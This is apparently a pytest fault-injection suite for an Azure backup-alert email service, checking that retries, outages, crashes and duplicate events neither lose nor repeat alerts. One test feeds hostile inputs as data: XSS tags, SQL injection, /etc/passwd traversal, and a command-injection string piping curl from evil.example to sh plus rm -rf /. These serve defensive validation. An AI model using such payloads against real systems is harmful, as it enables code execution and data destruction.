"""Fault injection: real SDK clients against the loopback stand-ins and Azurite; no failure lost, none told twice.

Outcomes are measured only through what is observable: the emails a mail service accepted (every successful
``send`` handed to the outbox, or ``AcsEmailStandIn.delivered`` that ended ``Succeeded``) and the item names in them.

* lost: a failed item whose name is in no delivered email (subject or plain text) once the runs settle;
* duplicated: an item told by more than one opening email: a subject ``[Backup failed] <item>: <code>``, or a digest
  (``[Backup failed] N new failures…``) listing it in its body. Reminders (``[Backup still failing]``), recovery
  notices (``[Backup recovered]``) and anything else are not opening emails.

Every generated job is about its own protected item (``bench.throughput.varied_jobs``), so an item stands for its
(item, code). Each case records a row (faults injected, jobs and events in, emails out, lost, duplicated);
with ``WRITE_FAULT_TABLE=1`` they are written to ``bench/results/faults.json`` and ``bench/results/FAULTS.md``.
"""

from __future__ import annotations

import contextlib
import copy
import json
import os
import random
import re
import threading
import uuid
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import markupsafe
import pytest
from azure.core.exceptions import AzureError

from backup_events import bootstrap
from backup_events.adapters.acs_mailer import AcsMailer
from backup_events.adapters.arm_jobs import RecoveryServicesJobSource
from backup_events.adapters.eventgrid_publisher import EventGridPublisher
from backup_events.adapters.outbox_mailer import OutboxMailer
from backup_events.app import alert_path, relay
from backup_events.app.poll import on_timer, poll_jobs
from backup_events.app.services import EventEnvelope, Services
from backup_events.dev import local_azurite
from backup_events.domain.model import EmailMessage
from backup_events.errors import RunFailedError
from backup_events.ports import Mailer
from backup_events.settings import Settings
from bench.throughput import (
    RESULTS,
    SUBSCRIPTION,
    StaticToken,
    item_names,
    machine,
    markdown_table,
    no_delay,
    settings_environ,
    varied_jobs,
    vault_id,
    write_results,
)
from tests.conftest import Clock, load
from tests.loopback.acs import AcsEmailStandIn
from tests.loopback.arm import ArmStandIn, arm_error
from tests.loopback.eventgrid import EventGridTopicStandIn
from tests.loopback.fixtures import serving
from tests.loopback.tls import Request, Response

ROWS: list[dict[str, Any]] = []
ROOMY = 10_000  # digest threshold and emails per run: every incident gets its own email
POLL_EVERY = 15  # minutes, as the Timer
_DIGEST = re.compile(r"^\[Backup failed\] \d+ new failures")
_DETAILS = re.compile(r"/vaults/(?P<vault>[^/]+)/backupjobs/[^/]+/?$", re.IGNORECASE)


# --- stand-ins and wrappers --------------------------------------------------------------------------------


class FaultyArm(ArmStandIn):
    """The ARM stand-in, plus faults aimed at the details GETs only (its own faults hit any request of a vault)."""

    def __init__(self) -> None:
        super().__init__(page_size=100)
        self._detail_faults: dict[str, list[tuple[int, float | None]]] = {}
        self._detail_lock = threading.Lock()

    def start(self) -> FaultyArm:
        super().start()
        no_delay(self)
        return self

    def fail_details(self, vault_name: str, times: int, status: int = 503, retry_after: float | None = None) -> None:
        """The next ``times`` job-details GETs of this vault answer ``status``."""
        with self._detail_lock:
            self._detail_faults.setdefault(vault_name.lower(), []).extend([(status, retry_after)] * times)

    def handle(self, request: Request) -> Response:
        match = _DETAILS.search(request.path)
        if match and request.method == "GET":
            with self._detail_lock:
                queue = self._detail_faults.get(match["vault"].lower())
                fault = queue.pop(0) if queue else None
            if fault is not None:
                status, retry_after = fault
                headers = {"Retry-After": str(int(retry_after))} if retry_after is not None else None
                return arm_error(status, "InjectedFault", f"Injected {status} on a job-details GET.", headers)
        return super().handle(request)


@dataclass(frozen=True)
class Delivered:
    """One email a mail service accepted."""

    subject: str
    text: str
    html: str


class CountingMailer:
    """Hands each email to ``inner`` and keeps every one it accepted, in order (thread-safe)."""

    def __init__(self, inner: Mailer) -> None:
        self.inner = inner
        self.accepted: list[Delivered] = []
        self.keys: Counter[str] = Counter()
        self._lock = threading.Lock()

    def send(self, message: EmailMessage) -> str:
        delivery_id = self.inner.send(message)
        with self._lock:
            self.accepted.append(Delivered(message.subject, message.text, message.html))
            self.keys[message.key] += 1
        return delivery_id

    def delivered(self, message: EmailMessage) -> bool | None:
        return self.inner.delivered(message)


def acs_delivered(acs: AcsEmailStandIn) -> list[Delivered]:
    """What the ACS stand-in accepted and did not end ``Failed``."""
    return [
        Delivered(
            d["message"]["content"]["subject"],
            d["message"]["content"].get("plainText", ""),
            d["message"]["content"].get("html", ""),
        )
        for d in acs.delivered
        if d["outcome"] == "Succeeded"
    ]


def outcome(items: list[str], emails: list[Delivered]) -> tuple[list[str], list[str]]:
    """(lost items, duplicated items), as the module docstring defines them."""
    lost = [item for item in items if not any(item in e.subject or item in e.text for e in emails)]
    told: Counter[str] = Counter()
    for e in emails:
        if _DIGEST.match(e.subject):
            told.update(item for item in items if item in e.text)
        elif e.subject.startswith("[Backup failed] "):
            told.update(item for item in items if item in e.subject)
    return lost, sorted(item for item, count in told.items() if count > 1)


def record(
    case: str, faults: str, *, jobs: int, events: int = 0, polls: int, emails: int, lost: int, duplicated: int, notes: str = ""
) -> None:
    ROWS.append(
        {
            "case": case,
            "faults injected": faults,
            "jobs in": jobs,
            "events in": events,
            "polls": polls,
            "emails out": emails,
            "lost": lost,
            "duplicated": duplicated,
            "notes": notes,
        }
    )


# --- building the app on the stand-ins ------------------------------------------------------------------------


def source_on(
    arm: ArmStandIn, vaults: list[str] | None = None, *, subscriptions: list[str] | None = None
) -> RecoveryServicesJobSource:
    """The real jobs-API adapter on the stand-in: 3 retries, quick backoff, a 0.9 s retry budget per call."""
    return RecoveryServicesJobSource(
        credential=StaticToken(arm.token),  # type: ignore[arg-type]
        vault_ids=vaults or [],
        subscription_ids=subscriptions or [],
        arm_endpoint=arm.url,
        connection_verify=arm.ca_path,
        max_retries=3,
        retry_backoff_factor=0.01,
        retry_budget_seconds=0.9,  # a Retry-After of 1 s is past it: the vault is skipped at once
    )


def acs_mailer(acs: AcsEmailStandIn, *, max_retries: int = 2) -> AcsMailer:
    return AcsMailer(
        connection_string=acs.connection_string,
        connection_verify=acs.ca_path,
        poll_interval=0.01,
        confirm_seconds=5,
        max_retries=max_retries,
        retry_backoff_factor=0.01,
    )


def build(connection: str, table: str, outbox: Path, clock: Clock, *, source: Any, mailer: Mailer) -> Services:
    """``bootstrap.build`` from app settings, with the jobs source and mailer injected."""
    settings = Settings.from_environ(settings_environ(connection, table, outbox, roomy=ROOMY))
    return bootstrap.build(settings, clock=clock, source=source, mailer_override=mailer)


def load_jobs(arm: ArmStandIn, jobs: list[dict[str, Any]]) -> list[str]:
    for job in jobs:
        arm.add_job(job)
    return item_names(jobs)


def poll(services: Services, clock: Clock) -> None:
    """One Timer run, 15 minutes after the last."""
    clock.advance(minutes=POLL_EVERY)
    poll_jobs(services)


def settle(run: Callable[[], None], delivered: Callable[[], list[Delivered]], items: list[str], *, most: int) -> int:
    """Poll until every item is told (at most ``most`` polls), then once more; returns how many polls ran."""
    polls = 0
    while polls < most:
        run()
        polls += 1
        if not outcome(items, delivered())[0]:
            break
    run()  # nothing may be told twice by a later run
    return polls + 1


def alert_for(job: dict[str, Any], item: str) -> dict[str, Any]:
    """The built-in alert Azure raises for a failed job (common schema): lower-cased vault id, the job's name."""
    alert: dict[str, Any] = copy.deepcopy(load("alert-vm-backup-failure.json"))
    essentials, context = alert["data"]["essentials"], alert["data"]["alertContext"]
    essentials["alertId"] = (
        f"/subscriptions/{SUBSCRIPTION}/providers/Microsoft.AlertsManagement/alerts/{uuid.uuid5(uuid.NAMESPACE_URL, job['id'])}"
    )
    essentials["alertTargetIDs"] = [job["id"].rsplit("/backupJobs/", 1)[0].lower()]
    context["linkedResourceName"] = item
    context["extendedInfo"]["jobId"] = job["name"]
    return alert


@dataclass
class Env:
    """Azurite's connection string, a fresh table, a scratch folder and the hand-moved clock."""

    azurite: str
    table: str
    tmp: Path
    clock: Clock

    def build(self, *, source: Any, mailer: Mailer, connection: str | None = None) -> Services:
        return build(connection or self.azurite, self.table, self.tmp / "outbox", self.clock, source=source, mailer=mailer)


@pytest.fixture
def env(azurite: str, table_name: str, tmp_path: Path, clock: Clock) -> Env:
    return Env(azurite, table_name, tmp_path, clock)


@pytest.fixture
def arm() -> Iterator[FaultyArm]:
    yield from serving(FaultyArm())


@pytest.fixture
def acs() -> Iterator[AcsEmailStandIn]:
    server = AcsEmailStandIn(running_polls=1)
    with server:
        no_delay(server)
        yield server
        assert server.errors == [], server.errors


@pytest.fixture
def topic() -> Iterator[EventGridTopicStandIn]:
    server = EventGridTopicStandIn(token="eventgrid-token")
    with server:
        no_delay(server)
        yield server
        assert server.errors == [], server.errors


def vault_name(vault: int, prefix: str) -> str:
    return vault_id(vault, prefix).rsplit("/", 1)[-1]


# --- the cases --------------------------------------------------------------------------------------------------


def test_429_storms_with_retry_after(arm: FaultyArm, env: Env) -> None:
    vaults = 6
    jobs = varied_jobs(vaults, 4, prefix="q")
    items = load_jobs(arm, jobs)
    arm.throttle(vault_name(0, "q"), times=3, retry_after=0)  # within the 3 retries
    arm.throttle(vault_name(1, "q"), times=2, retry_after=0)
    arm.fail_details(vault_name(1, "q"), times=5, status=429, retry_after=0)  # a storm on its details GETs
    arm.throttle(vault_name(2, "q"), times=4, retry_after=0)  # 1 + 3 retries, all throttled: skipped this run
    arm.throttle(vault_name(3, "q"), times=1, retry_after=1)  # waiting 1 s would pass the budget: skipped at once
    skipped = [
        item
        for item, job in zip(items, jobs, strict=True)
        if f"/{vault_name(2, 'q')}/" in job["id"] or f"/{vault_name(3, 'q')}/" in job["id"]
    ]
    mailer = CountingMailer(OutboxMailer(env.tmp / "outbox", clock=env.clock))
    source = source_on(arm, [vault_id(v, "q") for v in range(vaults)])
    services = env.build(source=source, mailer=mailer)

    with pytest.raises(RunFailedError, match=vault_name(2, "q")):  # the Timer invocation fails loudly
        on_timer(services, past_due=False)
    first_lost, _ = outcome(items, mailer.accepted)
    assert sorted(first_lost) == sorted(skipped)  # exactly the skipped vaults' items wait for the next run
    polls = 1 + settle(lambda: poll(services, env.clock), lambda: mailer.accepted, items, most=3)
    source.close()

    lost, duplicated = outcome(items, mailer.accepted)
    record(
        "429 storms (Retry-After 0/1) on the jobs API",
        "list: 3+2 throttles retried, 4 past the retry count, 1 past the time budget; details: 5 throttles",
        jobs=len(jobs),
        polls=polls,
        emails=len(mailer.accepted),
        lost=len(lost),
        duplicated=len(duplicated),
        notes=f"{len(skipped)} jobs of the 2 skipped vaults told by the next poll",
    )
    assert (lost, duplicated) == ([], [])


def test_5xx_bursts_on_list_and_details(arm: FaultyArm, env: Env) -> None:
    vaults = 5
    jobs = varied_jobs(vaults, 4, prefix="x")
    items = load_jobs(arm, jobs)
    arm.fail(vault_name(0, "x"), times=2, status=500)
    arm.fail(vault_name(1, "x"), times=3, status=503)
    arm.fail_details(vault_name(2, "x"), times=2, status=502)  # retried
    arm.fail_details(vault_name(3, "x"), times=8, status=500)  # two jobs' details past the retries: told from the list
    arm.fail(vault_name(4, "x"), times=4, status=500)  # past the retries: skipped this run
    mailer = CountingMailer(OutboxMailer(env.tmp / "outbox", clock=env.clock))
    source = source_on(arm, [vault_id(v, "x") for v in range(vaults)])
    services = env.build(source=source, mailer=mailer)

    polls = settle(lambda: poll(services, env.clock), lambda: mailer.accepted, items, most=3)
    source.close()

    lost, duplicated = outcome(items, mailer.accepted)
    record(
        "5xx bursts on list and details GETs",
        "list: 2x500 + 3x503 retried, 4x500 past the retries (vault skipped); details: 2x502 retried, 8x500",
        jobs=len(jobs),
        polls=polls,
        emails=len(mailer.accepted),
        lost=len(lost),
        duplicated=len(duplicated),
        notes="details past the retries: told from the list item (no phase)",
    )
    assert (lost, duplicated) == ([], [])


class AlternatingAcsFaults:
    """Every second send meets a fault at the ACS stand-in, in turn: 503, 429 (Retry-After 0), accepted then Failed."""

    KINDS = ("503", "429 Retry-After 0", "operation Failed")

    def __init__(self, mailer: Mailer, acs: AcsEmailStandIn) -> None:
        self.mailer, self.acs = mailer, acs
        self.sends = 0
        self.injected: Counter[str] = Counter()

    def send(self, message: EmailMessage) -> str:
        self.sends += 1
        if self.sends % 2 == 0:
            kind = self.KINDS[(self.sends // 2) % len(self.KINDS)]
            if kind == "503":
                self.acs.fail_sends(1, status=503)
            elif kind.startswith("429"):
                self.acs.throttle(1, retry_after=0)
            else:
                self.acs.fail_operation(1)
            self.injected[kind] += 1
        return self.mailer.send(message)

    def delivered(self, message: EmailMessage) -> bool | None:
        return self.mailer.delivered(message)


def test_acs_failing_half_the_sends(arm: FaultyArm, acs: AcsEmailStandIn, env: Env) -> None:
    jobs = varied_jobs(3, 4, prefix="m")
    items = load_jobs(arm, jobs)
    inner = acs_mailer(acs, max_retries=0)  # one failure at the stand-in = one failed send
    mailer = AlternatingAcsFaults(inner, acs)
    source = source_on(arm, [vault_id(v, "m") for v in range(3)])
    services = env.build(source=source, mailer=mailer)

    polls = settle(lambda: poll(services, env.clock), lambda: acs_delivered(acs), items, most=12)
    source.close()
    inner.close()

    emails = acs_delivered(acs)
    lost, duplicated = outcome(items, emails)
    injected = sum(mailer.injected.values())
    record(
        "ACS failing 50% of sends",
        ", ".join(f"{count}x {kind}" for kind, count in sorted(mailer.injected.items()))
        + f" ({injected} of {mailer.sends} sends)",
        jobs=len(jobs),
        polls=polls,
        emails=len(emails),
        lost=len(lost),
        duplicated=len(duplicated),
        notes="a 429 pauses mail for the rest of the run; failed sends are owed again next run",
    )
    assert injected * 2 in (mailer.sends, mailer.sends - 1)
    assert (lost, duplicated) == ([], [])


def test_azurite_stopped_mid_run_and_restarted(arm: FaultyArm, acs: AcsEmailStandIn, env: Env) -> None:
    jobs = varied_jobs(2, 5, prefix="s")
    items = load_jobs(arm, jobs)
    location = env.tmp / "azurite"  # a second Azurite, on disk
    stack = contextlib.ExitStack()
    stop_after = 4
    inner = acs_mailer(acs)

    class StopAzuriteAfter:
        """Sends through ACS, and right after the K-th accepted email stops Azurite (SIGINT: it flushes to disk)."""

        def send(self, message: EmailMessage) -> str:
            delivery_id = inner.send(message)
            if len(acs_delivered(acs)) == stop_after:
                stack.close()
            return delivery_id

        def delivered(self, message: EmailMessage) -> bool | None:
            return inner.delivered(message)

    class Asking:
        """Sends through ACS and counts the times the service asked whether an email had gone out already."""

        def __init__(self) -> None:
            self.answers: Counter[bool | None] = Counter()

        def send(self, message: EmailMessage) -> str:
            return inner.send(message)

        def delivered(self, message: EmailMessage) -> bool | None:
            answer = inner.delivered(message)
            self.answers[answer] += 1
            return answer

    try:
        connection = stack.enter_context(local_azurite.running(location))
        source = source_on(arm, [vault_id(v, "s") for v in range(2)])
        env.clock.advance(minutes=POLL_EVERY)
        with pytest.raises(AzureError):  # the ledger went away mid-run: the run fails loudly
            poll_jobs(env.build(source=source, mailer=StopAzuriteAfter(), connection=connection))
        sent_in_run_1 = len(acs_delivered(acs))  # emails claimed already may still go out before the run notices
        assert stop_after <= sent_in_run_1 <= len(items)
    finally:
        stack.close()

    with local_azurite.running(location) as connection:  # the same data, on a new port
        asking = Asking()
        services = env.build(source=source, mailer=asking, connection=connection)
        polls = 1 + settle(lambda: poll(services, env.clock), lambda: acs_delivered(acs), items, most=3)
        # Emails sent in run 1 whose 'sent' mark never reached the ledger stay claimed until the 15-minute lease has
        # passed; the run that then takes a claim over must find the email delivered and not send it again.
        env.clock.advance(minutes=1)
        polls += settle(lambda: poll(services, env.clock), lambda: acs_delivered(acs), items, most=2)
    source.close()
    inner.close()

    emails = acs_delivered(acs)
    resent = sum(n - 1 for n in Counter(d["operation_id"] for d in acs.delivered if d["outcome"] == "Succeeded").values())
    lost, duplicated = outcome(items, emails)
    record(
        "Azurite stopped mid-run, restarted on its data",
        f"Azurite stopped right after the {stop_after}th accepted email of run 1; restarted on its folder (new port)",
        jobs=len(jobs),
        polls=polls,
        emails=len(emails),
        lost=len(lost),
        duplicated=len(duplicated),
        notes=f"run 1 raised after {sent_in_run_1} emails went out; after the lease the service asked ACS about "
        f"{sum(asking.answers.values())} unmarked claims ({asking.answers[True]} found delivered); {resent} re-sent",
    )
    assert (lost, duplicated) == ([], [])


def test_four_instances_over_the_same_vaults(arm: FaultyArm, acs: AcsEmailStandIn, env: Env) -> None:
    jobs = varied_jobs(4, 6, prefix="c")
    items = load_jobs(arm, jobs)
    instances = 4
    errors: list[BaseException] = []
    barrier = threading.Barrier(instances)

    def instance() -> None:
        source = source_on(arm, subscriptions=[SUBSCRIPTION])  # each discovers the vaults itself
        mailer = acs_mailer(acs)
        try:
            services = env.build(source=source, mailer=mailer)
            barrier.wait(timeout=30)
            for _ in range(2):
                poll_jobs(services)
        except BaseException as exc:  # reported below, on the test's thread
            errors.append(exc)
        finally:
            source.close()
            mailer.close()

    env.clock.advance(minutes=POLL_EVERY)
    threads = [threading.Thread(target=instance, name=f"instance-{n}") for n in range(instances)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=60)
    assert errors == []

    emails = acs_delivered(acs)
    lost, duplicated = outcome(items, emails)
    record(
        "4 concurrent instances, same vaults and ledger",
        "4 threads, each its own bootstrap.build, 2 polls each at once",
        jobs=len(jobs),
        polls=instances * 2,
        emails=len(emails),
        lost=len(lost),
        duplicated=len(duplicated),
        notes="ledger claims (insert, ETag) decide who sends",
    )
    assert (lost, duplicated) == ([], [])
    assert len(emails) == len(items)


def test_every_event_grid_event_delivered_three_times(
    arm: FaultyArm,
    acs: AcsEmailStandIn,
    topic: EventGridTopicStandIn,
    env: Env,
) -> None:
    jobs = varied_jobs(3, 4, prefix="e")
    items = load_jobs(arm, jobs)
    publisher = EventGridPublisher(endpoint=topic.endpoint, credential=StaticToken(topic.token), connection_verify=topic.ca_path)
    alerted = list(range(0, len(jobs), 3)) + list(range(1, len(jobs), 3))  # two jobs in three also raise an alert
    for index in alerted:
        assert relay.relay_alert(publisher, json.dumps(alert_for(jobs[index], items[index])).encode()).status == 202
    events = [EventEnvelope(e["id"], e["type"], e["data"]) for e in topic.events]
    deliveries = events * 3
    random.Random(7).shuffle(deliveries)
    mailer = acs_mailer(acs)
    source = source_on(arm, [vault_id(v, "e") for v in range(3)])
    services = env.build(source=source, mailer=mailer)

    env.clock.advance(minutes=1)
    outcomes = [alert_path.handle_alert_event(services, event) for event in deliveries[: len(deliveries) // 2]]
    poll(services, env.clock)  # the Timer runs while redeliveries are still arriving
    outcomes += [alert_path.handle_alert_event(services, event) for event in deliveries[len(deliveries) // 2 :]]
    poll(services, env.clock)
    source.close()
    mailer.close()

    emails = acs_delivered(acs)
    lost, duplicated = outcome(items, emails)
    record(
        "every Event Grid event delivered 3 times",
        f"{len(events)} alerts relayed, each event handled 3x, shuffled, a poll in between",
        jobs=len(jobs),
        events=len(deliveries),
        polls=2,
        emails=len(emails),
        lost=len(lost),
        duplicated=len(duplicated),
        notes=f"outcomes: {dict(Counter(o.split(':')[0] for o in outcomes))}",
    )
    assert {o.split(":")[0] for o in outcomes} <= {"told", "no email"}, outcomes
    assert (lost, duplicated) == ([], [])
    assert len(emails) == len(items)


HOSTILE = {
    0: "<script>alert('h0')</script>",
    1: "db-h1'; DROP TABLE backupevents;--",
    2: 'vm-h2"><img src=x onerror=alert(1)>',
    3: "$(curl evil.example|sh) `id` & h3 && rm -rf /",
    4: "../../../etc/passwd-h4",
}


def test_malformed_events_are_rejected_and_hostile_names_escaped(arm: FaultyArm, topic: EventGridTopicStandIn, env: Env) -> None:
    jobs = varied_jobs(2, 5, prefix="h", hostile=HOSTILE)
    items = load_jobs(arm, jobs)
    outbox = env.tmp / "outbox"
    mailer = CountingMailer(OutboxMailer(outbox, clock=env.clock))
    source = source_on(arm, [vault_id(v, "h") for v in range(2)])
    services = env.build(source=source, mailer=mailer)
    publisher = EventGridPublisher(endpoint=topic.endpoint, credential=StaticToken(topic.token), connection_verify=topic.ca_path)
    valid = alert_for(jobs[5], items[5])

    def without(path: tuple[str, ...]) -> dict[str, Any]:
        broken = copy.deepcopy(valid)
        node = broken
        for key in path[:-1]:
            node = node[key]
        del node[path[-1]]
        return broken

    def hostile_job_id(job_id: str) -> dict[str, Any]:
        broken = copy.deepcopy(valid)
        broken["data"]["alertContext"]["extendedInfo"]["jobId"] = job_id
        return broken

    bodies: list[tuple[bytes, str]] = [
        (b"{not json", "not JSON"),
        (b"\xff\xfe<alert/>", "not JSON"),
        (b"[1, 2, 3]", "not a JSON object"),
        (json.dumps({"schemaId": "Microsoft.Insights/activityLogs", "data": {}}).encode(), "schemaId"),
        (json.dumps(without(("data", "essentials"))).encode(), "data.essentials"),
        (json.dumps(without(("data", "essentials", "alertTargetIDs"))).encode(), "vault id"),
        (json.dumps(without(("data", "alertContext", "extendedInfo", "jobId"))).encode(), "jobId"),
        (json.dumps(hostile_job_id("x'; DROP TABLE backupevents;--")).encode(), "jobId is not a job name"),
        (json.dumps(hostile_job_id("<script>alert(1)</script>")).encode(), "jobId is not a job name"),
        (json.dumps(hostile_job_id("$(reboot)")).encode(), "jobId is not a job name"),
        (json.dumps({**valid, "padding": "x" * (1024 * 1024)}).encode(), "at most"),
    ]
    answers = [relay.relay_alert(publisher, body) for body, _ in bodies]
    for answer, (_, reason) in zip(answers, bodies, strict=True):
        assert answer.status == 400, answer
        assert answer.message.startswith("rejected: ") and reason in answer.message, answer.message
    assert topic.events == []

    bad_events: list[Any] = [
        None,
        "not an object",
        ["a", "list"],
        {"schemaId": "azureMonitorCommonAlertSchema"},
        {"schemaId": "other", "data": {}},
        without(("data", "essentials", "monitoringService")),
        without(("data", "alertContext", "extendedInfo", "jobId")),
        hostile_job_id("x' OR '1'='1"),
        hostile_job_id("<img src=x onerror=alert(1)>"),
    ]
    rejected = [
        alert_path.handle_alert_event(services, EventEnvelope(f"bad-{n}", "t", data)) for n, data in enumerate(bad_events)
    ]
    assert all(r.startswith("rejected: ") and len(r) > len("rejected: ") for r in rejected), rejected
    assert mailer.accepted == []

    # Mixed in: valid alerts about jobs whose item names are hostile, then the Timer.
    for index in (0, 2, 5):
        assert relay.relay_alert(publisher, json.dumps(alert_for(jobs[index], items[index])).encode()).status == 202
    told = [alert_path.handle_alert_event(services, EventEnvelope(e["id"], e["type"], e["data"])) for e in topic.events]
    assert told == ["told"] * 3
    polls = settle(lambda: poll(services, env.clock), lambda: mailer.accepted, items, most=2)
    source.close()

    lost, duplicated = outcome(items, mailer.accepted)
    record(
        "malformed events and hostile item names",
        f"{len(bodies)} bad bodies to the relay (incl. 1 MB), {len(bad_events)} bad events, {len(HOSTILE)} hostile item names",
        jobs=len(jobs),
        events=len(bodies) + len(bad_events) + 3,
        polls=polls,
        emails=len(mailer.accepted),
        lost=len(lost),
        duplicated=len(duplicated),
        notes="each bad input rejected with its reason (400 / 'rejected: …'), nothing sent for it; names escaped in HTML",
    )
    assert (lost, duplicated) == ([], [])
    assert {p.parent for p in outbox.rglob("*")} == {outbox}  # no path from an item name escaped the outbox
    for item in (items[i] for i in HOSTILE):
        (email,) = [e for e in mailer.accepted if item in e.subject]
        assert str(markupsafe.escape(item)) in email.html
        assert not any(raw in email.html for raw in ("<script>alert", "<img src=x", '"><img')), item


@pytest.fixture(autouse=True, scope="module")
def fault_table() -> Iterator[None]:
    """After the cases ran: with WRITE_FAULT_TABLE=1, their rows as JSON and as the markdown table the README quotes.

    Off by default, so an ordinary test run leaves the repository as it was.
    """
    yield
    if os.environ.get("WRITE_FAULT_TABLE") != "1" or not ROWS:
        return
    columns = list(ROWS[0])
    facts = machine()
    write_results("faults", {"machine": facts, "rows": ROWS})
    table = markdown_table(columns, [[row[c] for c in columns] for row in ROWS])
    intro = (
        "# Fault injection (`tests/test_faults.py`)\n\n"
        "Real SDK clients against the loopback stand-ins and Azurite. lost: a failed item in no delivered email; "
        "duplicated: an item told by more than one opening email (its own, or a digest listing it).\n\n"
        f"Run {facts['date']} at commit {facts['git_commit']}"
        f"{' (with uncommitted app changes)' if facts['app_code_modified'] else ''}, "
        f"{facts['nproc']} CPUs ({facts['cpu_model']}), Python {facts['python']}.\n\n"
    )
    (RESULTS / "FAULTS.md").write_text(intro + table + "\n", encoding="utf-8")


# --- SIGKILL between claim and send, and between send and settle ------------------------------------------------

CRASH_CASES = [
    ("job", "claim-send"),
    ("job", "send-settle"),
    ("security", "claim-send"),
    ("security", "send-settle"),
    ("digest", "claim-send"),
    ("digest", "send-settle"),
]


@pytest.mark.parametrize(("kind", "point"), CRASH_CASES, ids=[f"{k}-{p}" for k, p in CRASH_CASES])
def test_an_instance_killed_mid_send_loses_nothing_and_tells_nothing_twice(kind: str, point: str, env: Env) -> None:
    import subprocess
    import sys

    from backup_events.adapters.sample_jobs import SampleJobSource, bundled_jobs

    outbox = env.tmp / "outbox"
    environ = {
        **settings_environ(env.azurite, env.table, outbox, roomy=ROOMY),
        "BACKUP_DIGEST_THRESHOLD": "3" if kind == "digest" else str(ROOMY),
        # the sample world's subscriptions and the security alert's: the vaults this instance watches
        "BACKUP_SUBSCRIPTION_IDS": "3b1f9c2e-5a7d-4e21-9c0b-7d2e4f6a8b10,8e4d2a17-0c9b-4f3e-a1d6-2b5c7e9f0a34,"
        "00000000-0000-0000-0000-000000000000",
    }
    alert = load("alert-security-soft-delete-disabled.json") if kind == "security" else None
    child = {
        "now": env.clock().isoformat(),
        "environ": environ,
        "point": point,
        "after": 1 if kind != "job" else 4,
        "alert": alert,
    }
    done = subprocess.run(
        [sys.executable, "-m", "tests.crash_child", json.dumps(child)], capture_output=True, text=True, timeout=60, check=False
    )
    assert done.returncode == -9, done.stderr[-2000:]  # killed for real, mid-send
    sent_before = len(list(outbox.glob("*.eml")))

    # A healthy instance, once the dead one's claims have outlived their lease, sweeps up (the Timer).
    env.clock.advance(minutes=16)
    counting = CountingMailer(OutboxMailer(outbox, clock=env.clock))
    healthy = bootstrap.build(Settings.from_environ(environ), clock=env.clock, source=SampleJobSource(), mailer_override=counting)
    poll_jobs(healthy)
    env.clock.advance(minutes=15)
    poll_jobs(healthy)  # nothing may be told twice by a later run
    mail = [(p.read_bytes().decode(errors="replace")) for p in outbox.glob("*.eml")]
    subjects = [next(line for line in text.splitlines() if line.startswith("Subject:")) for text in mail]

    if kind == "security":
        items = ["rsv-prod-01"]
        told = [s for s in subjects if "security alert" in s]
    else:
        failed = [job["properties"] for job in bundled_jobs() if job["properties"]["status"] == "Failed"]
        items = [p.get("entityFriendlyName") or p["dataSourceName"] for p in failed]  # a Backup vault job names its datasource
        told = subjects
    told_counts = Counter(item for item in items for text in mail if item.split(" [")[0].split("/")[-1] in text)
    lost = [item for item in items if told_counts[item] == 0]
    # An email sent twice has one file (its name derives from its key): count the sends, not the files.
    duplicated = sent_before + len(counting.accepted) - len(mail)
    assert (lost, duplicated) == ([], 0), (subjects, lost, sent_before, [a.subject for a in counting.accepted])
    assert told
    record(
        f"SIGKILL between {point.replace('-', ' and ')}: {kind} email",
        f"a real SIGKILL in the child process at its {'first' if kind != 'job' else 'fourth'} send ({point})",
        jobs=len(items) if kind != "security" else 0,
        events=1 if kind == "security" else 0,
        polls=3,
        emails=len(mail),
        lost=len(lost),
        duplicated=duplicated,
        notes=f"{sent_before} email(s) out before the kill; after the 15-minute lease the Timer "
        + ("settled it by asking the mailer" if point == "send-settle" else "sent what was claimed"),
    )
